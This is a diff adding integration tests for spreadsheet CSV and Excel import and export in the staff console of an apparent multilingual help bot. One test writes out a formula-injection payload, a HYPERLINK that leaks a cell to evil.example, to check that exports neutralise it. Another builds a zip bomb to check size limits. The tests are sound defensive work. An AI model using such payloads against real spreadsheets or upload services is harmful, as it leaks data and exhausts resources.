@@ -3,22 +3,29 @@ import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import type { FastifyInstance } from 'fastify';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
+import { readSheet } from 'read-excel-file/node';
 import { describe, expect, it } from 'vitest';
+import writeExcelFile from 'write-excel-file/node';
 import { AuditLog } from '../../src/admin/audit-log.js';
+import { unguardCell } from '../../src/admin/spreadsheet.js';
+import { XLSX_TYPE } from '../../src/admin/spreadsheet-xlsx.js';
+import { embeddedStoreOf } from '../support/stores.js';
 import { LANGUAGES } from '../../src/languages.js';
 import { csrfOf, signInWith, STAFF, useConsoleServer } from '../support/console-server.js';
 
 const serve = useConsoleServer();
 let app: FastifyInstance;
+let url: string;
 let knowledge: string;
 let dataDir: string;
 
 async function start() {
-  ({ app, knowledgeDir: knowledge, dataDir } = await serve());
+  ({ app, url, knowledgeDir: knowledge, dataDir } = await serve());
 }
 
 const tokenOf = (body: string) => /name="token" value="([^"]+)"/.exec(body)?.[1];
-const historyOf = async (file: string) => (await AuditLog.open(path.join(dataDir, 'audit-log.json'))).historyOf(file);
+const historyOf = async (file: string) => new AuditLog(await embeddedStoreOf(dataDir)).historyOf(file);
 
 /** Signs in; returns the session cookie and the CSRF token of the transfer page. */
 async function signIn() {
@@ -61,6 +68,26 @@ async function snapshot(dir: string): Promise<Map<string, string>> {
   const files = (await readdir(dir, { recursive: true })).filter((f) => f.endsWith('.yaml')).sort();
   return new Map(await Promise.all(files.map(async (f) => [f, await readFile(path.join(dir, f), 'utf8')] as const)));
 }
+
+/** Over real HTTP, as a browser sends it: the session cookie and a multipart form with the chosen file. */
+async function uploadOverHttp(cookie: string, csrf: string, file: { name: string; type: string; data: Uint8Array }) {
+  const form = new FormData();
+  form.append('_csrf', csrf);
+  form.append('file', new Blob([new Uint8Array(file.data)], { type: file.type }), file.name);
+  const response = await fetch(`${url}/admin/transfer/dry-run`, { method: 'POST', headers: { cookie }, body: form });
+  return { status: response.status, body: await response.text() };
+}
+
+async function exportXlsx(cookie: string) {
+  const response = await fetch(`${url}/admin/transfer/export.xlsx`, { headers: { cookie } });
+  const data = Buffer.from(await response.arrayBuffer());
+  const rows = (await readSheet(data, { trim: false })).map((row) => row.map((cell) => (cell === null ? '' : String(cell))));
+  return { response, data, rows };
+}
+
+/** A workbook as Excel saves one: every cell text. */
+const workbook = (rows: readonly (readonly string[])[]) => writeExcelFile(rows.map((row) => row.map((value) => ({ value, type: String })))).toBuffer();
+const xlsxFile = (data: Uint8Array, name = 'kb.xlsx') => ({ name, type: XLSX_TYPE, data });
 
 const ask = async (text: string, lang: string) => (await app.inject({ method: 'POST', url: '/api/ask', payload: { text, lang } })).json().answer as string;
 
@@ -205,6 +232,113 @@ describe('spreadsheet import and export in the staff console', () => {
     const text = await readFile(path.join(knowledge, 'avrr-timeline.yaml'), 'utf8');
     expect(text).toContain('From the entry form.');
     expect(text).not.toContain('From the spreadsheet.');
+  });
+
+  it('puts a quote in front of every cell a spreadsheet would run as a formula, in the CSV and the workbook, and importing either export changes nothing', async () => {
+    await start();
+    const { cookie, csrf } = await signIn();
+    const { rows } = await exportRows(cookie);
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for help")';
+    const texts = {
+      cost: { answer: '- bring your passport\n- bring your return ticket', variants: `${formula}\n@IOM how much does it cost` },
+      family: { answer: '+ children travel with you\n+ so does your spouse' },
+      timeline: { answer: "'Quoted' words first: the translator's own quote stays." },
+    };
+    const edited = rows.map((r) =>
+      r.id === 'avrr-cost' && r.lang === 'en' ? { ...r, ...texts.cost }
+      : r.id === 'avrr-family' && r.lang === 'en' ? { ...r, ...texts.family }
+      : r.id === 'avrr-timeline' && r.lang === 'en' ? { ...r, ...texts.timeline }
+      : r,
+    );
+    const applied = await apply(cookie, csrf, tokenOf((await dryRun(cookie, csrf, toCsv(edited))).body)!);
+    expect(applied.body).toContain('Applied. 3 entry file(s) changed');
+    const published = await snapshot(knowledge);
+
+    // The CSV: the formula is text behind a quote; no cell starts like a formula.
+    const csv = await exportRows(cookie);
+    expect(csv.response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click for help"")\n@IOM how much does it cost`);
+    const cells = csv.rows.flatMap((r) => COLUMNS.map((c) => r[c]));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    const row = (rows: Row[], id: string) => rows.find((r) => r.id === id && r.lang === 'en')!;
+    expect(row(csv.rows, 'avrr-cost')).toMatchObject({ answer: `'${texts.cost.answer}`, variants: `'${texts.cost.variants}` });
+    expect(row(csv.rows, 'avrr-family').answer).toBe(`'${texts.family.answer}`);
+    expect(row(csv.rows, 'avrr-timeline').answer).toBe(texts.timeline.answer);
+    // Without the quote, every cell is what was published.
+    for (const id of ['avrr-cost', 'avrr-family', 'avrr-timeline']) {
+      expect(Object.fromEntries(COLUMNS.map((c) => [c, unguardCell(row(csv.rows, id)[c])]))).toEqual(row(edited, id));
+    }
+
+    // The workbook: the same guarded text cells, and no formula anywhere in it.
+    const xlsx = await exportXlsx(cookie);
+    expect(xlsx.rows).toEqual([[...COLUMNS], ...csv.rows.map((r) => COLUMNS.map((c) => r[c]))]);
+    const sheet = strFromU8(unzipSync(xlsx.data)['xl/worksheets/sheet1.xml']!);
+    expect(sheet).toContain('<sheetData>');
+    expect(sheet).not.toMatch(/<f[\s>]/);
+
+    // Both come back as they went: nothing to change, nothing written.
+    expect((await dryRun(cookie, csrf, csv.response.body)).body).toContain('nothing to change');
+    const uploaded = await uploadOverHttp(cookie, csrf, xlsxFile(xlsx.data));
+    expect(uploaded.status).toBe(200);
+    expect(uploaded.body).toContain(`Rows read: ${csv.rows.length}.`);
+    expect(uploaded.body).toContain('nothing to change');
+    expect(await snapshot(knowledge)).toEqual(published);
+  });
+
+  it('exports an Excel workbook with the same rows as the CSV; an edited copy, uploaded over HTTP, gets the same dry run and apply, and the bot answers with it', async () => {
+    await start();
+    const { cookie, csrf } = await signIn();
+    const { response, data, rows } = await exportXlsx(cookie);
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe(XLSX_TYPE);
+    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="rahnama-knowledge-\d{4}-\d{2}-\d{2}\.xlsx"$/);
+    expect(data.subarray(0, 4)).toEqual(Buffer.from('PK\x03\x04', 'latin1'));
+    const csv = (await exportRows(cookie)).rows;
+    expect(rows).toEqual([[...COLUMNS], ...csv.map((r) => COLUMNS.map((c) => r[c]))]);
+
+    // A translator changes the Bulgarian answer in Excel and saves the workbook.
+    const before = await snapshot(knowledge);
+    const newAnswer = 'Отговор от Excel: разходите за пътуването се покриват от МОМ.';
+    const at = rows.findIndex((r) => r[0] === 'avrr-cost' && r[1] === 'bg');
+    const edited = rows.map((r, i) => (i === at ? [...r.slice(0, 5), newAnswer] : r));
+    const report = await uploadOverHttp(cookie, csrf, xlsxFile(await workbook(edited)));
+    expect(report.status).toBe(200);
+    expect(tableRows(report.body, 'changes')).toEqual([[String(at + 1), 'avrr-cost', 'bg', 'answer']]);
+    expect(await snapshot(knowledge)).toEqual(before);
+
+    const question = csv.find((r) => r.id === 'avrr-cost' && r.lang === 'bg')!.question;
+    const applied = await fetch(`${url}/admin/transfer/apply`, {
+      method: 'POST',
+      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ _csrf: csrf, token: tokenOf(report.body)! }),
+    });
+    expect(applied.status).toBe(200);
+    expect(await applied.text()).toContain('Applied. 1 entry file(s) changed');
+    expect((await readFile(path.join(knowledge, 'avrr-cost.yaml'), 'utf8'))).toContain(newAnswer);
+    expect(await ask(question, 'bg')).toContain(newAnswer);
+  });
+
+  it('refuses a workbook that is not one, is broken, has other columns, is an old .xls or unpacks to too much, changing nothing', async () => {
+    await start();
+    const { cookie, csrf } = await signIn();
+    const { data } = await exportXlsx(cookie);
+    const before = await snapshot(knowledge);
+    const bomb = unzipSync(data);
+    bomb['xl/sharedStrings.xml'] = strToU8(strFromU8(bomb['xl/sharedStrings.xml']!).replace('<t>id</t>', `<t>${'A'.repeat(40 * 1024 * 1024)}</t>`));
+    const cases = [
+      { file: xlsxFile(Buffer.from('this is not a workbook')), reason: /^the file is not an Excel workbook \(\.xlsx\) that can be read \(FILE_NOT_SUPPORTED\): in Excel use "Save as"/ },
+      { file: xlsxFile(data.subarray(0, data.length >> 1)), reason: /^the file is not an Excel workbook \(\.xlsx\) that can be read/ },
+      { file: xlsxFile(await workbook([['id', 'language', 'text'], ['avrr-cost', 'en', 'hello']])), reason: /^missing columns: lang, status, question, variants, answer/ },
+      { file: xlsxFile(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]), 'kb.xls'), reason: /^the file is an old Excel 97-2003 workbook \(\.xls\)/ },
+      { file: xlsxFile(zipSync(bomb, { level: 9 })), reason: /^the workbook is larger than 32 MB unpacked/ },
+    ];
+    for (const { file, reason } of cases) {
+      const report = await uploadOverHttp(cookie, csrf, file);
+      expect(report.status).toBe(422);
+      expect(tableRows(report.body, 'bad-rows')).toEqual([['1', '', '', expect.stringMatching(reason)]]);
+      expect(tokenOf(report.body)).toBeUndefined();
+    }
+    expect(cases[4]!.file.data.length).toBeLessThan(1024 * 1024);
+    expect(await snapshot(knowledge)).toEqual(before);
   });
 
   it('refuses an upload without the CSRF token, the import routes without a session, and a file over 5 MB', async () => {
